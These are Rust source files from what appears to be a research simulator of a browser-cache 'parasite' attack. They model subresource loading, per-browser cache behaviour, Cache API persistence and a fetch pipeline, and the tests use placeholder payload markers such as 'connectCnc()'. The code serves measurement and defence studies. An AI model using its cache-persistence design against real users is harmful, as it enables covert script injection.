    /// Integrity metadata, if the referencing tag carried any.
    pub integrity: Option<IntegrityDigest>,
}

/// The referencing element kind.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum SubresourceKind {
    /// `<script src=...>`.
    Script,
    /// `<img src=...>`.
    Image,
    /// `<iframe src=...>`.
    Frame,
    /// `<link rel="stylesheet" href=...>`.
    Stylesheet,
}

impl SubresourceKind {
    /// The resource kind a fetch of this subresource is expected to yield.
    pub fn expected_resource(self) -> ResourceKind {
        match self {
            SubresourceKind::Script => ResourceKind::JavaScript,
            SubresourceKind::Image => ResourceKind::Image,
            SubresourceKind::Frame => ResourceKind::Html,
            SubresourceKind::Stylesheet => ResourceKind::Css,
        }
    }
}

/// A script that ended up executing in the page.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LoadedScript {
    /// Source URL (`None` for inline scripts).
    pub url: Option<Url>,
    /// The script body text.
    pub body: String,
    /// Whether the body was served from the browser cache.
    pub from_cache: bool,
}

impl LoadedScript {
    /// Returns `true` if the script body contains `marker` — how experiments
    /// detect that a parasite payload executed.
    pub fn contains_marker(&self, marker: &str) -> bool {
        self.body.contains(marker)
    }
}

/// The result of loading one document and its subresources.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Page {
    /// Document URL (after any HSTS upgrade).
    pub url: Url,
    /// The document's DOM (populated by the application layer).
    pub dom: Dom,
    /// Raw HTML of the main document.
    pub html: String,
    /// Scripts that executed, in order.
    pub scripts: Vec<LoadedScript>,
    /// Frames loaded into the page (one level deep).
    pub frames: Vec<Url>,
}

impl Page {
    /// Creates an empty page for `url`.
    pub fn new(url: Url) -> Self {
        Page {
            dom: Dom::new(url.clone()),
            url,
            html: String::new(),
            scripts: Vec::new(),
            frames: Vec::new(),
        }
    }

    /// Returns `true` if any executed script contains `marker`.
    pub fn executed_marker(&self, marker: &str) -> bool {
        self.scripts.iter().any(|s| s.contains_marker(marker))
    }
}

/// Resolves a possibly relative reference against a base document URL.
pub fn resolve(base: &Url, reference: &str) -> Option<Url> {
    let reference = reference.trim();
    if reference.is_empty() {
        return None;
    }
    if reference.starts_with("http://") || reference.starts_with("https://") {
        return Url::parse(reference).ok();
    }
    if let Some(rest) = reference.strip_prefix("//") {
        return Url::parse(&format!("{}://{}", base.scheme.as_str(), rest)).ok();
    }
    let path = if reference.starts_with('/') {
        reference.to_string()
    } else {
        // Resolve relative to the base path's directory.
        let dir = match base.path.rfind('/') {
            Some(idx) => &base.path[..=idx],
            None => "/",
        };
        format!("{dir}{reference}")
    };
    let mut url = base.clone();
    match path.split_once('?') {
        Some((p, q)) => {
            url.path = p.to_string();
            url.query = Some(q.to_string());
        }
        None => {
            url.path = path;
            url.query = None;
        }
    }
    Some(url)
}

/// Extracts subresource references from an HTML document.
pub fn extract_subresources(html: &str, base: &Url) -> Vec<SubresourceRef> {
    let mut refs = Vec::new();
    for (tag, kind, attr) in [
        ("script", SubresourceKind::Script, "src"),
        ("img", SubresourceKind::Image, "src"),
        ("iframe", SubresourceKind::Frame, "src"),
        ("link", SubresourceKind::Stylesheet, "href"),
    ] {
        for tag_text in find_tags(html, tag) {
            if tag == "link" && !tag_text.to_ascii_lowercase().contains("stylesheet") {
                continue;
            }
            let Some(reference) = attr_value(&tag_text, attr) else {
                continue;
            };
            let Some(url) = resolve(base, &reference) else {
                continue;
            };
            let integrity = attr_value(&tag_text, "integrity").and_then(|v| IntegrityDigest::parse(&v));
            refs.push(SubresourceRef { url, kind, integrity });
        }
    }
    refs
}

/// Extracts the bodies of inline `<script>` elements (those without `src`).
pub fn extract_inline_scripts(html: &str) -> Vec<String> {
    let mut scripts = Vec::new();
    let lower = html.to_ascii_lowercase();
    let mut cursor = 0;
    while let Some(start) = lower[cursor..].find("<script") {
        let tag_start = cursor + start;
        let Some(tag_end_rel) = lower[tag_start..].find('>') else { break };
        let tag_end = tag_start + tag_end_rel + 1;
        let tag_text = &html[tag_start..tag_end];
        let Some(close_rel) = lower[tag_end..].find("</script>") else { break };
        let close = tag_end + close_rel;
        if attr_value(tag_text, "src").is_none() {
            let body = html[tag_end..close].trim();
            if !body.is_empty() {
                scripts.push(body.to_string());
            }
        }
        cursor = close + "</script>".len();
    }
    scripts
}

/// Finds the full text of each `<tag ...>` opening tag.
fn find_tags(html: &str, tag: &str) -> Vec<String> {
    let lower = html.to_ascii_lowercase();
    let needle = format!("<{tag}");
    let mut found = Vec::new();
    let mut cursor = 0;
    while let Some(pos) = lower[cursor..].find(&needle) {
        let start = cursor + pos;
        // Must be followed by whitespace or '>' so `<script>` does not match `<scripted>`.
        let after = lower.as_bytes().get(start + needle.len()).copied();
        if !matches!(after, Some(b' ') | Some(b'\t') | Some(b'\n') | Some(b'>') | Some(b'/')) {
            cursor = start + needle.len();
            continue;
        }
        match lower[start..].find('>') {
            Some(end_rel) => {
                found.push(html[start..start + end_rel + 1].to_string());
                cursor = start + end_rel + 1;
            }
            None => break,
        }
    }
    found
}

/// Extracts an attribute value from an opening-tag string.
fn attr_value(tag_text: &str, attr: &str) -> Option<String> {
    let lower = tag_text.to_ascii_lowercase();
    let needle = format!("{attr}=");
    let mut search_from = 0;
    loop {
        let pos = lower[search_from..].find(&needle)? + search_from;
        // Ensure we matched a whole attribute name (preceded by whitespace or quote).
        if pos > 0 {
            let before = lower.as_bytes()[pos - 1];
            if !(before as char).is_ascii_whitespace() {
                search_from = pos + needle.len();
                continue;
            }
        }
        let value_start = pos + needle.len();
        let rest = &tag_text[value_start..];
        let value = if let Some(stripped) = rest.strip_prefix('"') {
            stripped.split('"').next().unwrap_or("")
        } else if let Some(stripped) = rest.strip_prefix('\'') {
            stripped.split('\'').next().unwrap_or("")
        } else {
            rest.split(|c: char| c.is_ascii_whitespace() || c == '>').next().unwrap_or("")
        };
        return Some(value.to_string());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn base() -> Url {
        Url::parse("http://somesite.com/news/index.html").unwrap()
    }

    #[test]
    fn extracts_scripts_images_iframes_and_stylesheets() {
        let html = r#"<html><head>
            <link rel="stylesheet" href="/style.css">
            <script src="/my.js"></script>
            <script src="https://analytics.example/ga.js"></script>
        </head><body>
            <img src="logo.png">
            <iframe src="https://ads.example/frame.html"></iframe>
        </body></html>"#;
        let refs = extract_subresources(html, &base());
        assert_eq!(refs.len(), 5);
        let scripts: Vec<_> = refs.iter().filter(|r| r.kind == SubresourceKind::Script).collect();
        assert_eq!(scripts.len(), 2);
        assert_eq!(scripts[0].url.to_string(), "http://somesite.com/my.js");
        assert_eq!(scripts[1].url.to_string(), "https://analytics.example/ga.js");
        let image = refs.iter().find(|r| r.kind == SubresourceKind::Image).unwrap();
        assert_eq!(image.url.to_string(), "http://somesite.com/news/logo.png");
        let frame = refs.iter().find(|r| r.kind == SubresourceKind::Frame).unwrap();
        assert_eq!(frame.url.host, "ads.example");
    }

    #[test]
    fn integrity_attributes_are_parsed() {
        let digest = IntegrityDigest::of_bytes(b"function init(){}");
        let html = format!(r#"<script src="/app.js" integrity="{digest}"></script>"#);
        let refs = extract_subresources(&html, &base());
        assert_eq!(refs[0].integrity, Some(digest));
        // Unknown formats are ignored rather than failing the load model.
        let html = r#"<script src="/app.js" integrity="sha384-zzz"></script>"#;
        assert_eq!(extract_subresources(html, &base())[0].integrity, None);
    }

    #[test]
    fn inline_scripts_are_extracted_but_external_ones_are_not() {
        let html = r#"
            <script>var junk = loadJunkImages(64);</script>
            <script src="/real.js"></script>
            <script type="text/javascript">trackPageview();</script>
        "#;
        let inline = extract_inline_scripts(html);
        assert_eq!(inline.len(), 2);
        assert!(inline[0].contains("loadJunkImages"));
        assert!(inline[1].contains("trackPageview"));
    }

    #[test]
    fn relative_reference_resolution() {
        let b = base();
        assert_eq!(resolve(&b, "/app.js").unwrap().to_string(), "http://somesite.com/app.js");
        assert_eq!(resolve(&b, "lib/util.js").unwrap().to_string(), "http://somesite.com/news/lib/util.js");
        assert_eq!(resolve(&b, "//cdn.example/x.js").unwrap().to_string(), "http://cdn.example/x.js");
        assert_eq!(resolve(&b, "https://x.example/y.js").unwrap().scheme, mp_httpsim::url::Scheme::Https);
        assert_eq!(resolve(&b, "app.js?v=2").unwrap().query.as_deref(), Some("v=2"));
        assert!(resolve(&b, "").is_none());
    }

    #[test]
    fn unquoted_and_single_quoted_attributes_work() {
        let html = "<img src=pixel.png><script src='/a.js'></script>";
        let refs = extract_subresources(html, &base());
        assert_eq!(refs.len(), 2);
        assert!(refs.iter().any(|r| r.url.path.ends_with("pixel.png")));
        assert!(refs.iter().any(|r| r.url.path == "/a.js"));
    }

    #[test]
    fn non_stylesheet_links_are_ignored() {
        let html = r#"<link rel="icon" href="/favicon.ico"><link rel="stylesheet" href="/s.css">"#;
        let refs = extract_subresources(html, &base());
        assert_eq!(refs.len(), 1);
        assert_eq!(refs[0].url.path, "/s.css");
    }

    #[test]
    fn page_marker_detection() {
        let mut page = Page::new(base());
        page.scripts.push(LoadedScript {
            url: Some(Url::parse("http://somesite.com/my.js").unwrap()),
            body: "original();/*PARASITE*/connectCnc();".into(),
            from_cache: true,
        });
        assert!(page.executed_marker("PARASITE"));
        assert!(!page.executed_marker("NOT_THERE"));
    }
}
