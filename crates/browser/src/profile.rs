//! Browser profiles.
//!
//! Tables I–III of the paper are parameterised by browser: default cache
//! size, whether eviction can be driven across domains, whether the Cache API
//! exists, and how the browser behaves under a cache-filling attack
//! (Chromium-family and Firefox evict cleanly, Internet Explorer grows its
//! memory use until the OS starts killing processes). [`BrowserProfile`]
//! captures those published parameters so the experiments run against the
//! same decision logic the paper measured.

use serde::{Deserialize, Serialize};
use std::fmt;

/// The browser families evaluated in the paper.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum BrowserKind {
    /// Google Chrome (Chromium cache backend).
    Chrome,
    /// Chrome in incognito mode (memory-only cache).
    ChromeIncognito,
    /// Microsoft Edge (Chromium based).
    Edge,
    /// Internet Explorer 11.
    InternetExplorer,
    /// Mozilla Firefox.
    Firefox,
    /// Opera (Chromium based).
    Opera,
    /// Apple Safari.
    Safari,
}

impl fmt::Display for BrowserKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            BrowserKind::Chrome => "Chrome",
            BrowserKind::ChromeIncognito => "Chrome (incognito)",
            BrowserKind::Edge => "Edge",
            BrowserKind::InternetExplorer => "IE",
            BrowserKind::Firefox => "Firefox",
            BrowserKind::Opera => "Opera",
            BrowserKind::Safari => "Safari",
        };
        f.write_str(name)
    }
}

/// Operating systems from the Table II injection matrix.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum OperatingSystem {
    /// Windows 10.
    Windows10,
    /// macOS.
    MacOs,
    /// Desktop Linux.
    Linux,
    /// Android.
    Android,
    /// iOS.
    Ios,
}

impl OperatingSystem {
    /// All operating systems in Table II, in the paper's row order.
    pub const ALL: [OperatingSystem; 5] = [
        OperatingSystem::Windows10,
        OperatingSystem::MacOs,
        OperatingSystem::Linux,
        OperatingSystem::Android,
        OperatingSystem::Ios,
    ];
}

impl fmt::Display for OperatingSystem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            OperatingSystem::Windows10 => "Win10",
            OperatingSystem::MacOs => "MacOS",
            OperatingSystem::Linux => "Linux",
            OperatingSystem::Android => "Android",
            OperatingSystem::Ios => "iOS",
        };
        f.write_str(name)
    }
}

/// How the cache behaves when the attacker floods it with junk objects.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum EvictionBehaviour {
    /// Least-recently-used entries are evicted once the size budget is hit
    /// (Chromium family, Opera, Edge).
    Lru,
    /// Like [`EvictionBehaviour::Lru`] but eviction pressure also degrades
    /// responsiveness (the Firefox observation in Table I).
    LruWithSlowdown,
    /// The cache keeps growing: memory fills up until the operating system
    /// kills processes — the Internet Explorer "DOS on memory" row.
    UnboundedGrowth,
}

/// Static description of one browser build.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BrowserProfile {
    /// Which browser this is.
    pub kind: BrowserKind,
    /// Version string used in the paper's Table I.
    pub version: String,
    /// Default HTTP cache capacity in bytes.
    pub cache_capacity_bytes: u64,
    /// Whether cache capacity is shared across domains, so junk objects from
    /// `attacker.com` can evict `bank.example` entries (Table I "I.D.").
    pub inter_domain_eviction: bool,
    /// How the cache reacts to a junk-object flood.
    pub eviction: EvictionBehaviour,
    /// Whether the script-visible Cache API exists (Table III: not in IE).
    pub cache_api_supported: bool,
    /// Whether the browser partitions its HTTP cache by top-level site
    /// (the defence discussed in §VIII; off in the evaluated builds).
    pub cache_partitioning: bool,
    /// Operating systems this browser ships on (Table II rows; `n/a` cells).
    pub supported_os: Vec<OperatingSystem>,
}

const MIB: u64 = 1024 * 1024;
const MB: u64 = 1_000_000;

impl BrowserProfile {
    /// Chrome 81 profile (Table I row 1).
    pub fn chrome() -> Self {
        BrowserProfile {
            kind: BrowserKind::Chrome,
            version: "81.0.4044.122".to_string(),
            cache_capacity_bytes: 320 * MIB,
            inter_domain_eviction: true,
            eviction: EvictionBehaviour::Lru,
            cache_api_supported: true,
            cache_partitioning: false,
            supported_os: OperatingSystem::ALL.to_vec(),
        }
    }

    /// Chrome 81 in incognito mode (memory cache only, same behaviour).
    pub fn chrome_incognito() -> Self {
        BrowserProfile {
            kind: BrowserKind::ChromeIncognito,
            version: "81.0.4044.122".to_string(),
            cache_capacity_bytes: 64 * MIB,
            inter_domain_eviction: true,
            eviction: EvictionBehaviour::Lru,
            cache_api_supported: true,
            cache_partitioning: false,
            supported_os: OperatingSystem::ALL.to_vec(),
        }
    }

    /// Edge 84 profile.
    pub fn edge() -> Self {
        BrowserProfile {
            kind: BrowserKind::Edge,
            version: "84.0.522.59".to_string(),
            cache_capacity_bytes: 320 * MIB,
            inter_domain_eviction: true,
            eviction: EvictionBehaviour::Lru,
            cache_api_supported: true,
            cache_partitioning: false,
            supported_os: vec![OperatingSystem::Windows10],
        }
    }

    /// Internet Explorer 11 profile.
    pub fn internet_explorer() -> Self {
        BrowserProfile {
            kind: BrowserKind::InternetExplorer,
            version: "11.1365.17134.0".to_string(),
            cache_capacity_bytes: 330 * MB,
            inter_domain_eviction: false,
            eviction: EvictionBehaviour::UnboundedGrowth,
            cache_api_supported: false,
            cache_partitioning: false,
            supported_os: vec![OperatingSystem::Windows10],
        }
    }

    /// Firefox 75 profile.
    pub fn firefox() -> Self {
        BrowserProfile {
            kind: BrowserKind::Firefox,
            version: "75.0".to_string(),
            cache_capacity_bytes: 256 * MB,
            inter_domain_eviction: true,
            eviction: EvictionBehaviour::LruWithSlowdown,
            cache_api_supported: true,
            cache_partitioning: false,
            supported_os: OperatingSystem::ALL.to_vec(),
        }
    }

    /// Opera 68 profile.
    pub fn opera() -> Self {
        BrowserProfile {
            kind: BrowserKind::Opera,
            version: "68.0.3618.56".to_string(),
            cache_capacity_bytes: 320 * MIB,
            inter_domain_eviction: true,
            eviction: EvictionBehaviour::Lru,
            cache_api_supported: true,
            cache_partitioning: false,
            supported_os: vec![
                OperatingSystem::Windows10,
                OperatingSystem::MacOs,
                OperatingSystem::Linux,
                OperatingSystem::Android,
            ],
        }
    }

    /// Safari profile (Table II only; not part of the Table I eviction runs).
    pub fn safari() -> Self {
        BrowserProfile {
            kind: BrowserKind::Safari,
            version: "13.1".to_string(),
            cache_capacity_bytes: 256 * MIB,
            inter_domain_eviction: true,
            eviction: EvictionBehaviour::Lru,
            cache_api_supported: true,
            cache_partitioning: false,
            supported_os: vec![OperatingSystem::MacOs, OperatingSystem::Ios],
        }
    }

    /// The browsers evaluated in Table I, in row order.
    pub fn table1_browsers() -> Vec<BrowserProfile> {
        vec![
            Self::chrome(),
            Self::chrome_incognito(),
            Self::edge(),
            Self::internet_explorer(),
            Self::firefox(),
            Self::opera(),
        ]
    }

    /// The browsers evaluated in Table II, in column order.
    pub fn table2_browsers() -> Vec<BrowserProfile> {
        vec![
            Self::chrome(),
            Self::firefox(),
            Self::internet_explorer(),
            Self::edge(),
            Self::safari(),
            Self::opera(),
        ]
    }

    /// Returns `true` if the browser ships on `os` (a `n/a` cell in Table II
    /// when false).
    pub fn runs_on(&self, os: OperatingSystem) -> bool {
        self.supported_os.contains(&os)
    }

    /// Returns a copy of the profile with cache partitioning enabled, for the
    /// §VIII countermeasure ablation.
    pub fn with_cache_partitioning(mut self) -> Self {
        self.cache_partitioning = true;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table1_parameters_match_the_paper() {
        let chrome = BrowserProfile::chrome();
        assert_eq!(chrome.cache_capacity_bytes, 320 * 1024 * 1024);
        assert!(chrome.inter_domain_eviction);
        assert_eq!(chrome.eviction, EvictionBehaviour::Lru);

        let firefox = BrowserProfile::firefox();
        assert_eq!(firefox.cache_capacity_bytes, 256_000_000);
        assert_eq!(firefox.eviction, EvictionBehaviour::LruWithSlowdown);

        let ie = BrowserProfile::internet_explorer();
        assert_eq!(ie.cache_capacity_bytes, 330_000_000);
        assert_eq!(ie.eviction, EvictionBehaviour::UnboundedGrowth);
        assert!(!ie.inter_domain_eviction);
        assert!(!ie.cache_api_supported);
    }

    #[test]
    fn table1_has_six_rows_and_table2_six_columns() {
        assert_eq!(BrowserProfile::table1_browsers().len(), 6);
        assert_eq!(BrowserProfile::table2_browsers().len(), 6);
    }

    #[test]
    fn os_support_matrix_matches_table2_na_cells() {
        assert!(BrowserProfile::chrome().runs_on(OperatingSystem::Linux));
        assert!(!BrowserProfile::internet_explorer().runs_on(OperatingSystem::MacOs));
        assert!(!BrowserProfile::edge().runs_on(OperatingSystem::Android));
        assert!(BrowserProfile::safari().runs_on(OperatingSystem::Ios));
        assert!(!BrowserProfile::safari().runs_on(OperatingSystem::Linux));
        assert!(!BrowserProfile::opera().runs_on(OperatingSystem::Ios));
    }

    #[test]
    fn partitioning_ablation_flag() {
        let chrome = BrowserProfile::chrome().with_cache_partitioning();
        assert!(chrome.cache_partitioning);
        assert!(!BrowserProfile::chrome().cache_partitioning);
    }

    #[test]
    fn display_names_are_stable() {
        assert_eq!(BrowserKind::InternetExplorer.to_string(), "IE");
        assert_eq!(OperatingSystem::Windows10.to_string(), "Win10");
    }
}
