//! The script-visible Cache API (`caches.open(...)`).
//!
//! Table III of the paper shows why this storage matters: objects a script
//! stores through the Cache API survive Ctrl-F5 and "clear cache", and are
//! only removed when cookies / site data are cleared (and the API does not
//! exist at all in Internet Explorer). The parasite uses it as a second,
//! sturdier persistence layer.

use mp_httpsim::message::Response;
use mp_httpsim::url::Url;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// Per-origin, script-controlled response storage.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct CacheApiStorage {
    /// origin string -> cache name -> url key -> response
    stores: BTreeMap<String, BTreeMap<String, BTreeMap<String, Response>>>,
    /// Whether the API exists in this browser at all.
    supported: bool,
}

impl CacheApiStorage {
    /// Creates storage; `supported` mirrors the browser profile capability.
    pub fn new(supported: bool) -> Self {
        CacheApiStorage {
            stores: BTreeMap::new(),
            supported,
        }
    }

    /// Returns `true` if the API is available to scripts.
    pub fn is_supported(&self) -> bool {
        self.supported
    }

    /// Stores a response under `(origin, cache_name, url)`.
    ///
    /// Returns `false` (and stores nothing) when the API is unsupported.
    pub fn put(&mut self, origin: &str, cache_name: &str, url: &Url, response: Response) -> bool {
        if !self.supported {
            return false;
        }
        self.stores
            .entry(origin.to_string())
            .or_default()
            .entry(cache_name.to_string())
            .or_default()
            .insert(url.cache_key(), response);
        true
    }

    /// Looks up a stored response (`caches.match`).
    pub fn get(&self, origin: &str, url: &Url) -> Option<&Response> {
        let caches = self.stores.get(origin)?;
        for cache in caches.values() {
            if let Some(response) = cache.get(&url.cache_key()) {
                return Some(response);
            }
        }
        None
    }

    /// Returns `true` if any origin has this URL stored.
    pub fn contains_anywhere(&self, url: &Url) -> bool {
        let key = url.cache_key();
        self.stores
            .values()
            .any(|caches| caches.values().any(|c| c.contains_key(&key)))
    }

    /// Number of stored responses across all origins.
    pub fn len(&self) -> usize {
        self.stores
            .values()
            .flat_map(|caches| caches.values())
            .map(|c| c.len())
            .sum()
    }

    /// Returns `true` if nothing is stored.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Deletes every cache belonging to `origin` (per-site "clear site data").
    pub fn clear_origin(&mut self, origin: &str) {
        self.stores.remove(origin);
    }

    /// Deletes everything — this is what happens when the user clears
    /// cookies / site data, the only effective removal method in Table III.
    pub fn clear_all(&mut self) {
        self.stores.clear();
    }

    /// Lists origins that currently have stored responses.
    pub fn origins(&self) -> Vec<String> {
        self.stores
            .iter()
            .filter(|(_, caches)| caches.values().any(|c| !c.is_empty()))
            .map(|(o, _)| o.clone())
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mp_httpsim::body::{Body, ResourceKind};

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    fn parasite_response() -> Response {
        Response::ok(Body::text(ResourceKind::JavaScript, "original();PARASITE_CODE;"))
    }

    #[test]
    fn put_and_get_round_trip() {
        let mut storage = CacheApiStorage::new(true);
        let target = url("http://top1.com/persistent.js");
        assert!(storage.put("http://top1.com", "parasite-cache", &target, parasite_response()));
        assert!(storage.get("http://top1.com", &target).is_some());
        assert!(storage.get("http://other.com", &target).is_none());
        assert_eq!(storage.len(), 1);
        assert_eq!(storage.origins(), vec!["http://top1.com".to_string()]);
    }

    #[test]
    fn unsupported_api_stores_nothing() {
        let mut storage = CacheApiStorage::new(false);
        let target = url("http://top1.com/persistent.js");
        assert!(!storage.put("http://top1.com", "parasite-cache", &target, parasite_response()));
        assert!(storage.is_empty());
        assert!(!storage.is_supported());
    }

    #[test]
    fn clear_origin_is_scoped_and_clear_all_is_total() {
        let mut storage = CacheApiStorage::new(true);
        storage.put("http://a.example", "c", &url("http://a.example/x.js"), parasite_response());
        storage.put("http://b.example", "c", &url("http://b.example/y.js"), parasite_response());
        storage.clear_origin("http://a.example");
        assert!(storage.get("http://a.example", &url("http://a.example/x.js")).is_none());
        assert!(storage.get("http://b.example", &url("http://b.example/y.js")).is_some());
        storage.clear_all();
        assert!(storage.is_empty());
    }

    #[test]
    fn contains_anywhere_spans_origins() {
        let mut storage = CacheApiStorage::new(true);
        let shared = url("http://analytics.example/ga.js");
        storage.put("http://news.example", "c", &shared, parasite_response());
        assert!(storage.contains_anywhere(&shared));
        assert!(!storage.contains_anywhere(&url("http://analytics.example/other.js")));
    }
}
