//! The browser: fetch pipeline, page loads and user-visible actions.
//!
//! [`Browser`] wires the cache, Cache API, cookie jar, HSTS store and local
//! storage behind a fetch pipeline that talks to an [`Exchange`] transport.
//! Swapping the transport models the victim moving between networks (the
//! public WiFi where the infection happens, then the home network where the
//! parasite keeps operating), which is one of the persistence claims of the
//! paper.

use crate::cache::{CacheLookup, HttpCache};
use crate::cache_api::CacheApiStorage;
use crate::page::{self, LoadedScript, Page, SubresourceKind};
use crate::profile::BrowserProfile;
use crate::storage::OriginStorage;
use mp_httpsim::body::ResourceKind;
use mp_httpsim::caching::CachePolicy;
use mp_httpsim::cookies::CookieJar;
use mp_httpsim::csp::{ContentSecurityPolicy, Directive};
use mp_httpsim::headers::names;
use mp_httpsim::hsts::{HstsPolicy, HstsStore};
use mp_httpsim::message::{Request, Response, StatusCode};
use mp_httpsim::sri::{self, SriOutcome};
use mp_httpsim::transport::Exchange;
use mp_httpsim::url::{Scheme, Url};
use serde::{Deserialize, Serialize};

/// Where the bytes of a fetch came from (or why it was blocked).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum FetchSource {
    /// Served fresh from the HTTP cache without any network traffic.
    HttpCache,
    /// Served from the script-controlled Cache API storage.
    CacheApi,
    /// A conditional request was answered `304 Not Modified`; the cached copy
    /// was reused.
    Revalidated,
    /// Full download from the network.
    Network,
    /// Blocked by the page's Content Security Policy.
    BlockedByCsp,
    /// Blocked because Subresource Integrity verification failed.
    BlockedBySri,
}

impl FetchSource {
    /// Returns `true` if the fetch produced usable bytes.
    pub fn is_delivered(self) -> bool {
        !matches!(self, FetchSource::BlockedByCsp | FetchSource::BlockedBySri)
    }

    /// Returns `true` if the fetch generated a request on the network
    /// (which is when the eavesdropping master gets an injection opportunity).
    pub fn touched_network(self) -> bool {
        matches!(self, FetchSource::Network | FetchSource::Revalidated)
    }
}

/// One entry of the browser's fetch log.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FetchRecord {
    /// The URL that was requested (after HSTS upgrading).
    pub url: Url,
    /// Where the response came from.
    pub source: FetchSource,
    /// Status of the response that was ultimately used.
    pub status: StatusCode,
}

/// Result of a single resource fetch.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FetchResult {
    /// The response the page sees.
    pub response: Response,
    /// Where it came from.
    pub source: FetchSource,
    /// The URL actually used (scheme may have been upgraded by HSTS).
    pub final_url: Url,
}

/// Result of a full page load.
#[derive(Debug, Clone, PartialEq)]
pub struct PageLoad {
    /// The loaded page.
    pub page: Page,
    /// Per-resource fetch records, in fetch order (main document first).
    pub records: Vec<FetchRecord>,
    /// The content security policy delivered with the main document, if any.
    pub csp: Option<ContentSecurityPolicy>,
}

impl PageLoad {
    /// Returns the fetch record for `url`, if the page requested it.
    pub fn record_for(&self, url: &Url) -> Option<&FetchRecord> {
        self.records.iter().find(|r| &r.url == url)
    }

    /// Number of fetches that hit the network.
    pub fn network_fetches(&self) -> usize {
        self.records.iter().filter(|r| r.source.touched_network()).count()
    }
}

/// A simulated browser instance.
pub struct Browser {
    profile: BrowserProfile,
    cache: HttpCache,
    cache_api: CacheApiStorage,
    cookies: CookieJar,
    hsts: HstsStore,
    storage: OriginStorage,
    transport: Box<dyn Exchange>,
    now_secs: u64,
    fetch_log: Vec<FetchRecord>,
}

impl std::fmt::Debug for Browser {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Browser")
            .field("profile", &self.profile.kind)
            .field("now_secs", &self.now_secs)
            .field("cached_entries", &self.cache.len())
            .field("cookies", &self.cookies.len())
            .finish()
    }
}

impl Browser {
    /// Creates a browser with the given profile, talking to `transport`.
    pub fn new(profile: BrowserProfile, transport: Box<dyn Exchange>) -> Self {
        let cache_api_supported = profile.cache_api_supported;
        Browser {
            cache: HttpCache::new(profile.clone()),
            cache_api: CacheApiStorage::new(cache_api_supported),
            cookies: CookieJar::new(),
            hsts: HstsStore::new(),
            storage: OriginStorage::new(),
            transport,
            now_secs: 0,
            fetch_log: Vec::new(),
            profile,
        }
    }

    /// Creates a browser with an HSTS preload list.
    pub fn with_preload(
        profile: BrowserProfile,
        transport: Box<dyn Exchange>,
        preload: impl IntoIterator<Item = String>,
    ) -> Self {
        let mut browser = Self::new(profile, transport);
        browser.hsts = HstsStore::with_preload(preload);
        browser
    }

    /// The browser's profile.
    pub fn profile(&self) -> &BrowserProfile {
        &self.profile
    }

    /// Current browser clock in seconds.
    pub fn now(&self) -> u64 {
        self.now_secs
    }

    /// Advances the browser clock (time passing between visits).
    pub fn advance_time(&mut self, secs: u64) {
        self.now_secs += secs;
    }

    /// Read access to the HTTP cache.
    pub fn cache(&self) -> &HttpCache {
        &self.cache
    }

    /// Mutable access to the HTTP cache (used by infection code that models a
    /// response having been delivered into the cache).
    pub fn cache_mut(&mut self) -> &mut HttpCache {
        &mut self.cache
    }

    /// Read access to the Cache API storage.
    pub fn cache_api(&self) -> &CacheApiStorage {
        &self.cache_api
    }

    /// Mutable access to the Cache API storage (scripts use this).
    pub fn cache_api_mut(&mut self) -> &mut CacheApiStorage {
        &mut self.cache_api
    }

    /// Read access to the cookie jar.
    pub fn cookies(&self) -> &CookieJar {
        &self.cookies
    }

    /// Mutable access to the cookie jar.
    pub fn cookies_mut(&mut self) -> &mut CookieJar {
        &mut self.cookies
    }

    /// Read access to local storage.
    pub fn storage(&self) -> &OriginStorage {
        &self.storage
    }

    /// Mutable access to local storage.
    pub fn storage_mut(&mut self) -> &mut OriginStorage {
        &mut self.storage
    }

    /// Read access to the HSTS store.
    pub fn hsts(&self) -> &HstsStore {
        &self.hsts
    }

    /// Mutable access to the HSTS store.
    pub fn hsts_mut(&mut self) -> &mut HstsStore {
        &mut self.hsts
    }

    /// The log of every fetch the browser has performed.
    pub fn fetch_log(&self) -> &[FetchRecord] {
        &self.fetch_log
    }

    /// Replaces the transport — the victim switching from the attacker's WiFi
    /// to a different (clean) network.
    pub fn change_network(&mut self, transport: Box<dyn Exchange>) {
        self.transport = transport;
    }

    /// Applies the HSTS upgrade rule to a URL.
    fn apply_hsts(&self, url: &Url) -> Url {
        if url.scheme == Scheme::Http && self.hsts.must_upgrade(&url.host, self.now_secs) {
            let mut upgraded = url.clone();
            upgraded.scheme = Scheme::Https;
            upgraded.port = Scheme::Https.default_port();
            upgraded
        } else {
            url.clone()
        }
    }

    fn build_request(&self, url: &Url) -> Request {
        let mut request = Request::get(url.clone());
        if let Some(cookie_header) = self.cookies.header_for(url, self.now_secs) {
            request.headers.set(names::COOKIE, cookie_header);
        }
        request
    }

    fn absorb_response_metadata(&mut self, url: &Url, response: &Response) {
        for set_cookie in response.headers.get_all(names::SET_COOKIE) {
            let value = set_cookie.to_string();
            self.cookies.set_from_header(&value, url, self.now_secs);
        }
        if let Some(policy) = HstsPolicy::from_headers(&response.headers) {
            self.hsts
                .observe(&url.host, policy, self.now_secs, url.scheme == Scheme::Https);
        }
